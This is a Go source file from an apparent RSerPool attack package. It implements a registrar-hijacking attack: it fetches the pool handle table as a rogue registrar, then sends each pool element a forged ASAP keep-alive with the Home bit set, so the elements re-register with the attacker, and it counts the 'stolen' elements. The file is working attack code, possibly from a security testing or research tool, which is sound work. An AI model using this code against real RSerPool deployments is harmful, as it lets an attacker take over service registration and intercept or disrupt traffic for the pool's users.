package attack

import (
	"context"
	"fmt"
	"net/netip"
	"sync"

	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/asapmsg"
)

// OutcomeStolen counts the elements that have registered at the attacker.
const OutcomeStolen = "elements stolen"

// stealHome tells each element by a single keep-alive that the attacker is its home registrar from now on.
func stealHome(ctx context.Context, w *work) error {
	elements := []netip.AddrPort{w.Element}
	if !w.Element.IsValid() {
		var err error
		if elements, err = w.findElements(ctx); err != nil {
			return err
		}
	}
	var mu sync.Mutex
	stolen := map[wire.PEID]bool{}
	for _, addr := range elements {
		s, err := w.speak(ctx, 0, addr, wire.PPIDASAP)
		if err != nil {
			return err
		}
		defer s.close()
		s.hearASAP(func(m asapmsg.Message) {
			r, ok := m.(*asapmsg.Registration)
			if !ok {
				return
			}
			mu.Lock()
			defer mu.Unlock()
			if !stolen[r.PoolElement.ID] {
				stolen[r.PoolElement.ID] = true
				w.note(OutcomeStolen, 1)
			}
			_ = s.tell(ctx, &asapmsg.RegistrationResponse{PoolHandle: r.PoolHandle, PEID: r.PoolElement.ID})
		})
		if err := s.tell(ctx, claim(w.Pool)); err != nil {
			return err
		}
		w.count(1)
	}
	<-ctx.Done()
	return nil
}

// claim returns the keep-alive, with the H bit, for all elements of a pool at an endpoint.
func claim(pool wire.PoolHandle) *asapmsg.EndpointKeepAlive {
	return &asapmsg.EndpointKeepAlive{Home: true, ServerID: rogueID, PoolHandle: pool}
}

// findElements returns the ASAP addresses of all elements of the pool, from the handle table of the registrar.
func (w *work) findElements(ctx context.Context) (addrs []netip.AddrPort, err error) {
	var r rogue
	if err := w.joinAs(ctx, rogueID+1, &r); err != nil {
		return nil, err
	}
	defer r.close()
	entries, err := r.fetchTable(ctx)
	if err != nil {
		return nil, err
	}
	for _, entry := range entries {
		for _, e := range entry.PoolElements {
			if entry.PoolHandle == w.Pool && e.ASAPTransport != nil {
				addrs = append(addrs, e.ASAPTransport.AddrPorts()[0])
			}
		}
	}
	if len(addrs) == 0 {
		return nil, fmt.Errorf("pool %s: no element in the handle table", w.Pool)
	}
	return addrs, nil
}
